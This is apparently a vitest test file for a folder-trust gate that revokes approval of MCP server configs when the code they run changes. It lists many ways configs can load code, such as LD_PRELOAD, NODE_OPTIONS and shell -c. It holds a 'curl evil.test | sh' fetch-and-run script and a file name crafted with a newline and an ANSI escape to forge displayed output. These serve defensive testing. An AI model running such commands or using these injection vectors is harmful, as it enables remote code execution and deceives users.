import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { createFolderGate, describeAdmission } from './folder-gate.ts';

let base = '';
let folder = '';
beforeEach(() => {
  base = realpathSync(mkdtempSync(path.join(tmpdir(), 'programs-')));
  folder = path.join(base, 'folder');
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

function write(name: string, text: string | Buffer): void {
  mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
  writeFileSync(path.join(folder, name), text);
}

const gate = () => createFolderGate({ env: { HOME: base } });
const isTrusted = (): boolean => gate().admit(folder).isTrusted;

function sayYes(list: object): void {
  write('.mcp.json', JSON.stringify({ mcpServers: { one: list } }));
  gate().remember(gate().admit(folder));
}

test.each<[string, object, string]>([
  ['a script as an argument', { command: 'node', args: ['./tools/server.mjs'] }, 'tools/server.mjs'],
  ['a program of its own', { command: './bin/server' }, 'bin/server'],
  ['words of a shell', { command: 'sh', args: ['-c', 'cd x; exec "tools/run.sh" --all'] }, 'tools/run.sh'],
  ['the value of an option', { command: 'node', args: ['--import=./hook.mjs', '-e', ''] }, 'hook.mjs'],
  ['what a variable stands for', { command: 'node', args: ['${SERVER:-tools/server.mjs}'] }, 'tools/server.mjs'],
  ['a folder to run in', { command: 'python', args: ['server.py'], cwd: 'tools' }, 'tools/server.py'],
  ['a module', { command: 'python', args: ['-m', 'tools.server'] }, 'tools/server.py'],
  ['an installed program', { command: 'npx', args: ['my-mcp'] }, 'node_modules/.bin/my-mcp'],
  ['a name with dots', { command: 'node', args: ['..server.mjs'] }, '..server.mjs'],
  ['a makefile', { command: 'make', args: ['serve'] }, 'Makefile'],
  ['words that are run behind an option', { command: 'node', args: ['--stack-size', '100', 'x.txt'] }, 'x.txt'],
  ['data that is run behind an option', { command: 'bash', args: ['-O', 'extglob', 'x.log'] }, 'x.log'],
  ['data that another program runs', { command: 'npx', args: ['-y', 'tsx', './x.log'] }, 'x.log'],
  ['data that is loaded', { command: 'npx', args: ['some-mcp', '-r', './x.log'] }, 'x.log'],
  ['data that code is told', { command: 'sh', args: ['-c', '. "$0"', './x.log'] }, 'x.log'],
  ['data that is joined to what loads it', { command: 'node', args: ['--import=./x.log', '/server.mjs'] }, 'x.log'],
  ['an address with code', { command: 'node', args: ['--import', 'data:text/javascript,import("./x.log")'] }, 'x.log'],
  ['code that loads', { command: 'node', args: ['-e', 'require("./x.log")'] }, 'x.log'],
  ['an address of a file', { command: 'node', args: ['--import', 'file:./hook.mjs', '-e', ''] }, 'hook.mjs'],
  ['words of a shell that runs data', { command: 'sh', args: ['-c', 'exec bash -x ./x.log --a=1'] }, 'x.log'],
  ['words of a shell that reads data', { command: 'sh', args: ['-c', 'cat x.csv | node'] }, 'x.csv'],
  ['words that a runner runs', { command: 'uv', args: ['run', 'x.md'] }, 'x.md'],
  ['a list behind an option', { command: 'some-mcp', args: ['--config=servers.json'] }, 'servers.json'],
  ['a hook without an ending', { command: 'node', args: ['-r', './hook', 'x.mjs'] }, 'hook'],
  ['a hook that is joined to its option', { command: 'node', args: ['--require=./hook', 'x.mjs'] }, 'hook'],
  ['a hook whose ending is left out', { command: 'node', args: ['-r', './hook', 'x.mjs'] }, 'hook.js'],
  ['a folder to begin in', { command: 'node', args: ['./tools'] }, 'tools/index.js'],
  ['a folder with a module', { command: 'python', args: ['./tools'] }, 'tools/__main__.py'],
  ['a folder behind an option', { command: 'uv', args: ['--directory', './tools', 'run', 'x.py'] }, 'tools/x.py'],
  ['a project in a folder', { command: 'npm', args: ['--prefix=tools/', 'run', 'mcp'] }, 'tools/package.json'],
  ['a variable that loads', { command: 'x', env: { NODE_OPTIONS: '--require ./hook.cjs' } }, 'hook.cjs'],
  ['data that a variable loads', { command: 'x', env: { NODE_OPTIONS: '-r ./x.log' } }, 'x.log'],
  [
    'data that a variable names to a shell',
    { command: 'bash', args: ['-c', 'x'], env: { BASH_ENV: './x.log' } },
    'x.log',
  ],
  ['data that a variable names to the loader', { command: 'x', env: { LD_PRELOAD: './x.log' } }, 'x.log'],
  ['what is mounted', { command: 'docker', args: ['run', '-v', './x.py:/x.py', 'python', '/x.py'] }, 'x.py'],
])('a yes to a list is one to the program that it names as %s', (_how, list, name) => {
  write(name, 'first');
  sayYes(list);
  expect(isTrusted()).toBe(true);
  expect(describeAdmission(gate().admit(folder))).toContain(`${name} (program)`);
  write(name, 'other');
  expect(isTrusted()).toBe(false);
});

test.each<[string, object, string]>([
  ['a database', { command: 'npx', args: ['-y', 'mcp-server-sqlite', '--db-path', './work.db'] }, 'work.db'],
  ['a log behind an option', { command: 'npx', args: ['some-mcp', '--log=server.log'] }, 'server.log'],
  ['what a shell writes to', { command: 'sh', args: ['-c', 'exec some-mcp > out.log'] }, 'out.log'],
  ['a database behind its program', { command: 'npx', args: ['-y', 'mcp-sqlite', './work.db'] }, 'work.db'],
  ['a database behind a script', { command: 'node', args: ['../s.mjs', './work.db'] }, 'work.db'],
  ['a log behind a module', { command: 'python', args: ['-m', 'some_mcp', '--log', 'x.log'] }, 'x.log'],
  ['what a folder for a server begins with', { command: 'npx', args: ['some-mcp', '.'] }, 'index.js'],
  ['what a folder for a script begins with', { command: 'node', args: ['../s.mjs', './src'] }, 'src/index.js'],
  ['what a shell tells a program', { command: 'sh', args: ['-c', 'exec some-mcp --db=work.db'] }, 'work.db'],
  ['what a variable names', { command: 'npx', args: ['some-mcp'], env: { MEMORY_FILE_PATH: './m.json' } }, 'm.json'],
  ['what code writes', { command: 'node', args: ['-e', 'require("fs").writeFileSync("trace", "x")'] }, 'trace'],
])('a yes to a list outlives %s that its server writes', (_how, list, name) => {
  write('x', '');
  writeFileSync(path.join(base, 's.mjs'), '');
  sayYes(list);
  write(name, 'first');
  expect(isTrusted()).toBe(true);
  write(name, 'second');
  expect(isTrusted()).toBe(true);
});

test('what is named like data is a program where a program stands', () => {
  for (const list of [{ command: './server.log' }, { command: 'sh', args: ['server.log'] }]) {
    write('server.log', 'first');
    sayYes(list);
    write('server.log', 'other');
    expect(isTrusted()).toBe(false);
  }
});

test('of a manifest the scripts count, and of a program its bytes', () => {
  const manifest = (script: string, version: string): string => JSON.stringify({ version, scripts: { mcp: script } });
  write('package.json', manifest('node a.mjs', '1'));
  sayYes({ command: 'npm', args: ['run', 'mcp'] });
  write('package.json', manifest('node a.mjs', '2'));
  expect(isTrusted()).toBe(true);
  write('package.json', manifest('curl evil.test | sh', '2'));
  expect(isTrusted()).toBe(false);
  // What fetches a package runs none of them.
  sayYes({ command: 'npx', args: ['-y', 'some-mcp'] });
  write('package.json', manifest('something else', '2'));
  expect(isTrusted()).toBe(true);
  // Both read as the same text.
  write('server', Buffer.from([0x80]));
  sayYes({ command: './server' });
  write('server', Buffer.from([0x81]));
  expect(isTrusted()).toBe(false);
});

test('a program that is named through a link to the folder is one of the folder', () => {
  write('server', 'first');
  symlinkSync(folder, path.join(base, 'link'));
  sayYes({ command: path.join(base, 'link/server') });
  write('server', 'other');
  expect(isTrusted()).toBe(false);
});

test('what lies outside the folder is the user’s own', () => {
  write('x', '');
  writeFileSync(path.join(base, 'own.mjs'), 'first');
  sayYes({ command: 'node', args: ['../own.mjs', path.join(base, 'own.mjs')] });
  writeFileSync(path.join(base, 'own.mjs'), 'other');
  expect(isTrusted()).toBe(true);
});

test('a store that is put there while another is shown is not taken for that one', () => {
  write('.pointsman/jobs.db', 'x');
  const shown = gate().admit(folder);
  write('.pointsman/records.db', 'y');
  expect(() => gate().remember(shown)).toThrow(expect.objectContaining({ code: 'folder-untrusted' }));
  expect(isTrusted()).toBe(false);
});

test('the name of a file can forge no line of what is shown', () => {
  const name = 'a\n  .mcp.json (tool-servers)\u001B[2J.policy.yaml';
  write(`mine/${name}`, 'id: x\n');
  write('pointsman.config.yaml', 'policyDirs: [mine]\n');
  const text = describeAdmission(gate().admit(folder));
  expect(text.split('\n').filter((line) => /^ {2}\S/u.test(line))).toHaveLength(2);
  expect(text).not.toContain('\u001B');
});
